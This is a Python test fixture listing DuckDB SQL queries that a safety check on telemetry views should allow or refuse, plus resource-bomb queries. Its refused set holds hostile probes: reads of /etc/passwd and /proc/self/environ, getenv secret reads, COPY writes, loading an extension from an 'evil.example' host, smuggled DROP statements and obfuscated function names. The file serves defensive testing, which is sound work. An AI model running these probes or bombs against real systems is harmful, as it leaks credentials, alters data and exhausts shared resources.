"""Queries by somebody who had not seen the check: what honest analysts and attackers would send.

Some name views and columns that telemetry does not have: the check knows names of views only.
"""

ALLOWED = (
    (
        "QUALIFY on alias",
        "select *, lag(ts, 1) over (partition by key_id order by ts) as prev, ts - lag(ts) over (partition by key_id order by ts) gap from requests qualify gap < interval 1 second",
    ),
    (
        "json_transform",
        'select json_transform(detail, \'{"kind":"VARCHAR","ms":"DOUBLE"}\') from events',
    ),
    ("with ordinality", "select i, v from unnest(['x','y','z']) with ordinality as t(v, i)"),
    (
        "hash, random, uuid",
        "select hash(plan) % 10 as shard, random(), uuid(), gen_random_uuid() from requests",
    ),
    ("EXPLAIN", "explain select plan, sum(cost_usd) from requests group by 1"),
    (
        "GLOB as an operator, function name in a literal",
        "select count(*) from requests where plan glob 'prod-*' or operation ilike '%read_csv%'",
    ),
    ("COPY in a comment only", "/* copy (select 1) to 'x' */ select max(cost_usd) from requests"),
    (
        "ordered set aggregate",
        "select percentile_cont(0.9) within group (order by latency_ms desc) from requests",
    ),
    (
        "COLUMNS with lambda",
        "select columns(lambda c: c like '%s') + 0 from (select cost_usd s, latency_ms ms from requests)",
    ),
    (
        "list comprehension",
        "select [upper(p) for p in list(distinct plan) if p is not null] from requests",
    ),
    ("constant", "select 1"),
    ("prefix aliases, trailing commas", "select p: plan, n: count(*), from requests group by p,"),
    (
        "unions, fixed arrays",
        "select union_value(num := 2) u, union_tag(u), array_value(1.0,2.0), array_cosine_similarity([1.0,2.0]::double[2],[2.0,1.0]::double[2])",
    ),
    ("DESCRIBE query", "DESCRIBE select plan, cost_usd*2 as dbl from requests"),
    (
        "named window with interval range",
        "select ts, cost_usd, sum(cost_usd) over w as running, row_number() over w as rn from requests window w as (partition by key_id order by ts range between interval 1 hour preceding and current row)",
    ),
    (
        "SQL standard pivot",
        "select * from (select plan, date_part('hour', ts) h from requests) pivot (count(*) for h in (0,6,12,18) group by plan)",
    ),
    ("COLUMNS regex", "select columns('.*_(ms|usd)') from requests"),
    (
        "approximate and arg aggregates",
        "select approx_count_distinct(key_id), count(distinct plan), approx_top_k(backend, 3), arg_max(request_id, cost_usd), min_by(backend, latency_ms, 3) from requests",
    ),
    (
        "cross join of totals",
        "select a.n, b.n from (select count(*) n from requests) a cross join (select count(*) n from attempts) b",
    ),
    ("COLUMNS star in aggregates", "select min(columns(*)), max(columns(*)) from requests"),
    (
        "ASOF join",
        "select f.*, r.plan from feedback f asof join requests r on f.request_id = r.request_id and f.ts >= r.ts",
    ),
    ("SHOW of a view", "SHOW requests"),
    (
        "DISTINCT ON",
        "select distinct on (key_id) key_id, ts, plan from requests order by key_id, ts desc",
    ),
    (
        "quantile list",
        "select plan, quantile_cont(latency_ms, [0.5,0.9,0.99]) q from requests group by plan",
    ),
    (
        "UNION BY NAME",
        "(select plan from requests) union by name (select backend, plan from attempts)",
    ),
    (
        "FROM-first, group by all, order by all",
        "from requests select plan, avg(latency_ms) group by all order by all limit 5",
    ),
    (
        "encodings",
        "select url_encode('a b'), encode('\u00e9'), to_base64('x'::blob), bin(5), hex('a'), chr(65), ascii('A'), unicode('\u00df'), '\\xAA'::blob, current_date, today()",
    ),
    (
        "SIMILAR TO and tilde",
        "select * from requests where plan similar to '(gold|silver)-[0-9]+' and backend ~ 'gpt.*' and backend !~ 'mini$'",
    ),
    ("SUMMARIZE query", "SUMMARIZE select cost_usd, latency_ms from requests where status = 200"),
    (
        "two CTEs with FROM-first",
        "with r as (from requests where ts > now() - interval 7 day), s as (select plan, sum(cost_usd) c from r group by plan) select * from s order by c desc",
    ),
    (
        "hostile words as quoted aliases",
        'select count(*) as "copy", max(ts) as "attach", 1 as "read_csv" from requests',
    ),
    ("EXPLAIN with format json", "explain (format json) select * from trials where true"),
    ("FROM-first, no select", "from requests"),
    ("ASOF LEFT USING", "select * from events e asof left join trials t using (plan, ts)"),
    (
        "materialized hints",
        "WITH r AS MATERIALIZED (SELECT * FROM requests), q AS NOT MATERIALIZED (SELECT * FROM quality) SELECT * FROM r JOIN q USING (request_id) LIMIT 10",
    ),
    (
        "unicode identifiers and comment",
        'WiTh Gr\u00f6\u00dfe as (select plan as "Gr\u00f6\u00dfe in \u20ac" from requests) select * from Gr\u00f6\u00dfe -- \u65e5\u672c\u8a9e',
    ),
    (
        "FILTER both spellings",
        "select count(*) filter (where status >= 500) * 100.0 / count(*) as pct_err, sum(cost_usd) filter (status = 200) from requests",
    ),
    (
        "extract epoch, dynamic interval",
        "select extract(epoch from ts)::bigint - extract(epoch from lag(ts) over ())::bigint, to_days(3), interval (status) second from requests",
    ),
    ("VALUES at top level", "values (1,'a'),(2,'b'),(3,null)"),
    (
        "maths",
        "select cast(avg(latency_ms) as integer), round(avg(quality), 3), ceil(1.2), width, log10(100), ln(2.7), sqrt(2), pi(), isnan('nan'::double), equi_width_bins(0, 10, 5, true) from (select latency_ms, quality, 1 as width from requests) group by width",
    ),
    (
        "json functions",
        "select '{\"a\":[1,{\"b\":\"x\"}]}'::json ->> '$.a[1].b', json_extract('{\"k\":5}', 'k'), json_array_length('[1,2]'), json_valid('{'), json_type('[]')",
    ),
    ("SHOW TABLES", "show tables"),
    (
        "EXPLAIN ANALYZE of a read",
        "EXPLAIN ANALYZE SELECT backend, count(*) FROM attempts GROUP BY ALL",
    ),
    (
        "structs",
        "select struct_pack(p := plan, c := cost_usd) s, row(1, 'x'), struct_insert({'a': 1}, b := 2) from requests limit 1",
    ),
    ("SUMMARIZE view", "summarize requests"),
    (
        "top 3 per group",
        "select * from requests qualify row_number() over (partition by plan order by cost_usd desc) <= 3",
    ),
    (
        "recursive path",
        "with recursive t(id, path) as (select request_id, [request_id] from attempts where parent is null union all select a.request_id, list_append(t.path, a.request_id) from attempts a join t on a.parent = t.id) select max(len(path)) from t",
    ),
    (
        "dollar-quoted strings",
        "select $$it's; copy to 'x'$$ as s, $tag$ attach 'db' $tag$ as t, E'a\\nb' as u",
    ),
    (
        "conditionals",
        "select case when latency_ms < 100 then 'fast' when latency_ms < 1000 then 'ok' else 'slow' end b, if(status = 200, 1, 0) ok, coalesce(quality, 0), nullif(plan, ''), greatest(1, 2, cost_usd), ifnull(key_id, '-') from requests",
    ),
    (
        "GROUPING SETS",
        "select plan, backend, status, count(*) from requests group by grouping sets ((plan, backend), (status), ())",
    ),
    ("DESCRIBE view", "describe attempts"),
    (
        "ANY, row IN",
        "select * from requests where latency_ms > any (select quantile_disc(latency_ms, 0.99) from requests) or (plan, backend) in (('a','b'),('c','d'))",
    ),
    ("TABLE statement", "TABLE feedback"),
    (
        "regex functions",
        "select regexp_extract(operation, '^(\\w+)\\.(\\w+)$', ['ns','name']) o, regexp_replace(backend, '[0-9]+', '#', 'g'), regexp_matches(plan, '(?i)GOLD'), regexp_split_to_array(operation, '[._]') from requests",
    ),
    (
        "tablesample repeatable",
        "select avg(cost_usd) from requests tablesample reservoir(100 rows) repeatable (42)",
    ),
    (
        "is distinct from, not between",
        "select plan is distinct from strategy, quality is not null, status not between 200 and 299 from requests",
    ),
    (
        "ignore nulls, exclude",
        "select first_value(backend ignore nulls) over (order by ts), last_value(quality ignore nulls) over (order by ts rows unbounded preceding exclude current row) from requests",
    ),
    (
        "recursive calendar",
        "with recursive d(x) as (select date '2025-01-01' union all select x + 1 from d where x < date '2025-01-31') select d.x, count(r.request_id) from d left join requests r on r.ts::date = d.x group by 1 order by 1",
    ),
    (
        "list of structs, order, slice",
        "select plan, list(struct_pack(b := backend, ms := latency_ms) order by latency_ms)[:3] as fastest from requests group by plan",
    ),
    (
        "typeof, collate, enum cast",
        "select typeof(cost_usd), plan collate nocase, plan::enum('gold','silver') from requests where plan = 'Gold' collate nocase",
    ),
    (
        "positional join",
        "select a.plan, b.backend from (from requests limit 5) a positional join (from attempts limit 5) b",
    ),
    (
        "list functions",
        "select list_sort(array_agg(distinct backend)), list_unique(list(status)), list_aggregate(list(cost_usd), 'sum'), flatten([[1],[2,3]]), list_zip([1,2],['a','b']) from requests",
    ),
    ("json_each table function", 'select key, value, type from json_each(\'{"a":1,"b":[2]}\')'),
    ("unpacked COLUMNS", "select coalesce(*columns(['quality','cost_usd'])) from requests"),
    ("method chaining", "select plan.upper().replace('-', '_').length() as l from requests"),
    ("semi join", "select * from requests semi join feedback using (request_id)"),
    ("range table function", "select range as n, n * n from range(0, 100, 5)"),
    (
        "semicolon and DROP inside a comment only",
        "-- how many; drop table x\nselect plan, count(*) n from requests group by plan order by n desc",
    ),
    (
        "nested from-first with alias in having",
        "from (from requests select plan, cost_usd where status = 200) select plan, total: sum(cost_usd) group by plan having total > 1 order by total desc limit 3",
    ),
    ("schema-qualified view", "select main.requests.plan from main.requests limit 1"),
)

REFUSED = (
    (
        "getenv in QUALIFY",
        "select * from requests qualify getenv('USER') <> '' and row_number() over () = 1",
    ),
    ("file in a scalar subquery", "select (select count(*) from '/etc/passwd') as n from requests"),
    ("getenv in a lambda", "select list_transform(['PATH','HOME'], lambda v: getenv(v))"),
    ("EXPORT", "export database '/tmp/dump'"),
    (
        "read in second arm of UNION",
        "select 1 union all select count(*) from read_json('/etc/x.json')",
    ),
    ("PRAGMA in a CTE body", "with a as (pragma database_list) from a"),
    (
        "serialized SQL is executed",
        "from json_execute_serialized_sql(json_serialize_sql('from read_text(''/etc/passwd'')'))",
    ),
    ("replacement scan relative", "select * from 'file.csv'"),
    ("RESET", "reset allowed_directories"),
    ("query() dynamic SQL", "from query('copy (select 1) to ''/tmp/q''')"),
    ("getenv in PIVOT's ON", "pivot requests on (getenv('HOME')) using count(*)"),
    ("duckdb_views tells file paths", "select sql from duckdb_views()"),
    ("SUMMARIZE file as subquery", "from (summarize '/etc/passwd')"),
    ("read_parquet list", "select * from read_parquet(['a.parquet','b.parquet'])"),
    ("S3 replacement scan", "from 's3://bucket/key.parquet'"),
    ("PIVOT over a file", "pivot 'x.csv' on a using count(*)"),
    ("ALTER", "alter view requests rename to gone"),
    (
        "table macro reading files",
        "create temp macro requests2(p) as table select * from read_text(p)",
    ),
    ("replacement scan with dots", 'select * from "data/../../secrets.parquet"'),
    ("CHECKPOINT", "checkpoint"),
    ("UPDATE EXTENSIONS", "update extensions"),
    ("TRUNCATE", "truncate events"),
    ("SHOW as subquery", "select * from (show databases)"),
    (
        "COPY two CTEs deep",
        "with a as materialized (select 1), b as (with c as (copy (from a) to 'out.json') from c) select * from b",
    ),
    (
        "read within a lambda",
        "select list_transform([1], lambda x: (select content from read_text('/etc/passwd')))",
    ),
    ("changes a sequence", "select nextval('s')"),
    ("read_json_auto", "select * from read_json_auto('/proc/self/environ')"),
    (
        "COPY in a CTE body",
        "with a as (copy (select 1 x) to '/var/lib/waggle/journal.jsonl' (format csv, use_tmp_file false)) select 1",
    ),
    (
        "COPY in CTE in a subquery",
        "select * from (with z as (copy (select 2) to '/dev/shm/z') select 1) t",
    ),
    ("read_parquet alias", "select * from parquet_scan('x')"),
    ("PREPARE", "prepare p as select getenv($1)"),
    (
        "CTE name of table function, quoted",
        "with \"read_csv_auto\"(a) as (values (1)) from read_csv_auto('/proc/self/environ')",
    ),
    ("duckdb_settings()", "select value from duckdb_settings() where name like '%dir%'"),
    ("LOAD", "load '/tmp/evil.duckdb_extension'"),
    ("COPY FROM", "copy requests from '/etc/passwd' (delimiter ':')"),
    ("logging to file", "from enable_logging(storage='file', storage_config={'path':'/tmp/log'})"),
    (
        "read in a window's order",
        "select row_number() over (order by (select size from read_blob('/etc/passwd'))) from requests",
    ),
    ("replacement scan literal", "select * from '/etc/passwd'"),
    ("sqlite_master shows view SQL with paths", "select * from sqlite_master"),
    ("FORCE INSTALL from a host", "force install spatial from 'http://evil.example'"),
    ("parquet kv metadata", "from parquet_kv_metadata('telemetry/a.parquet')"),
    ("BOM and no-break spaces", "\ufeffselect\u00a0*\u00a0from\u00a0read_text('/etc/passwd')"),
    ("two statements", "select 1; drop view requests"),
    (
        "lateral read of a dynamic path",
        "select * from requests, lateral (select * from read_text(requests.request_id))",
    ),
    ("temporary files' paths", "select * from duckdb_temporary_files()"),
    ("parquet_metadata", "from parquet_metadata('telemetry/*.parquet')"),
    ("parquet bloom probe", "from parquet_bloom_probe('a.parquet','plan','x')"),
    (
        "zero-width char and NUL",
        "select * from read\u200b_text('/etc/passwd')\u0000; drop view requests",
    ),
    ("read in VALUES", "values ((select content from read_text('/etc/passwd')))"),
    ("DESCRIBE binds a file", "describe from read_csv('/etc/passwd')"),
    (
        "read in ORDER BY",
        "select * from requests order by (select content from read_text('/etc/passwd'))",
    ),
    ("SET VARIABLE", "set variable p = '/etc/passwd'"),
    ("UPDATE in a CTE", "WITH u AS (UPDATE requests SET cost_usd = 0 RETURNING 1) TABLE u"),
    ("comment between name and paren", "select * from read_text/**/('/etc/passwd')"),
    ("write_log", "select write_log('x')"),
    ("ATTACH memory", "attach if not exists ':memory:' as m"),
    ("semicolon in a string, then a real one", "select ';' ; attach 'z'"),
    ("MERGE", "merge into feedback using trials on false when not matched then insert values (1)"),
    ("glob in LIMIT", "select * from requests limit (select count(*) from glob('/home/*'))"),
    (
        "PRAGMA writes profile to file",
        "PRAGMA enable_profiling='json'; PRAGMA profiling_output='/tmp/p.json'",
    ),
)

# These pass the check; the bounds of their process hold.
BOMBS = (
    (
        "inequality join with sort",
        "select * from generate_series(1, 10000000) a(x) join generate_series(1, 10000000) b(y) on x <> y order by random()",
    ),
    ("rows without end", "select * from range(1000000000000)"),
    (
        "doubling string",
        "with recursive t(s) as (select 'x' union all select s||s from t) select length(s) from t",
    ),
    ("lpad bomb", "select lpad('', 2147483647, 'x'), rpad('', 2147483647, 'y')"),
    ("one huge string", "select repeat('x', 2000000000)"),
)
